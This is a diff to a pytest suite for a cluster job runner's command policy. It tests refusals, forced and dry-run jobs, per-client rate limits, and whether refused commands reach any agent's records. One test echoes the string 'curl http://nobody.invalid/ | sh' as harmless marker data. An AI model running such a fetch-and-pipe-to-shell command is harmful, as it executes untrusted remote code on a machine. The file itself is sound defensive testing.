@@ -14,7 +14,7 @@ from typing import Any
 import pytest
 
 from .many import Fleet, make_fleet
-from .programs import Home, Result, log_in, make_home
+from .programs import Home, Result, eventually, log_in, make_home
 
 pytestmark = pytest.mark.real
 POLICY = """
@@ -90,9 +90,11 @@ def code_in(text: str) -> str:
     return text.split("clusterd approve ")[1].split()[0]
 
 
-def stored(fleet: Fleet) -> set[str]:
-    """What any agent has of any job."""
-    return {str(path) for agent in fleet.agents.values() for path in (agent.path / "agent").rglob("job.json")}
+def heard_of(fleet: Fleet, text: object) -> bool:
+    """Whether any agent has *text* in its store: its journal, and the records of its jobs."""
+    folders = [agent.path / "agent" for agent in fleet.agents.values()]
+    files = [path for folder in folders for path in (folder / "journal", *folder.rglob("job.json"))]
+    return any(str(text).encode() in path.read_bytes() for path in files)
 
 
 def ok(result: Result) -> Result:
@@ -101,7 +103,6 @@ def ok(result: Result) -> Result:
 
 
 def test_what_is_refused_reaches_no_agent(players: Cast, marker: Path) -> None:
-    before = stored(players.fleet)
     script = marker.with_name("script")
     script.write_text(f"#!/bin/sh\n{blocked(marker)}\n")
     for words in (
@@ -124,10 +125,10 @@ def test_what_is_refused_reaches_no_agent(players: Cast, marker: Path) -> None:
         False,
     )
     assert players.sh("joshua", "run", "--force", "ws1,db1", blocked(marker)).status == 126, "denied on one of them"
-    assert stored(players.fleet) == before
+    ok(players.sh("joshua", "run", "ws1", f"echo 'curl http://nobody.invalid/ | sh' {marker}-passed"))
+    eventually(lambda: heard_of(players.fleet, f"{marker}-passed"), what="this is where an agent's jobs are")
+    assert not heard_of(players.fleet, f">>{marker}")
     assert not marker.exists()
-    ok(players.sh("joshua", "run", "ws1", "echo 'curl http://nobody.invalid/ | sh'"))
-    assert len(stored(players.fleet)) == len(before) + 1, "this is where jobs are"
 
 
 def test_a_key_gets_the_same_refusal_and_force_passes_what_it_may(players: Cast, marker: Path) -> None:
@@ -202,16 +203,14 @@ def test_an_ai_agents_client_asks_and_keeps_to_its_machines(players: Cast, marke
 
 
 def test_a_client_that_comes_too_often_is_told_when_to_come_again(players: Cast) -> None:
-    for _ in range(3):  # the first of them passes where no other test took its place
-        late = players.sh("guest", "run", "--key", "later", "ws1", "true")
-        again = players.sh("guest", "run", "ws1", "true")
-        assert again.status == 125
-        assert again.err.startswith("ERROR: guest@desk may start 1 jobs a minute, and has\nhint: again in ")
-        assert late.status == 0
+    first = players.sh("guest", "run", "--key", "first", "ws1", "true")
+    again = players.sh("guest", "run", "ws1", "true")
+    assert (first.status, again.status) == (0, 125), (first, again)
+    assert again.err.startswith("ERROR: guest@desk may start 1 job a minute, and has\nhint: again in ")
+    ok(players.sh("guest", "run", "--key", "first", "ws1", "true"))
 
 
 def test_asking_what_would_be_said(players: Cast, marker: Path) -> None:
-    before = stored(players.fleet)
     tested = players.sh("joshua", "policy", "test", "ws1,db1", blocked(marker))
     assert tested.status == 126
     lines = [[cell.strip() for cell in line.split("|")] for line in tested.out.splitlines()[2:]]
@@ -229,7 +228,7 @@ def test_asking_what_would_be_said(players: Cast, marker: Path) -> None:
     assert (dry.status, dry.out, dry.err.startswith("ERROR: refused by policy")) == (126, "", True), dry
     ok(players.sh("joshua", "run", "--dry-run", "--force", "ws1", blocked(marker)))
     assert players.sh("joshua", "policy", "test", "nobody", "ls").status == 125
-    assert stored(players.fleet) == before
+    assert not heard_of(players.fleet, marker)
     assert not marker.exists()
 
 
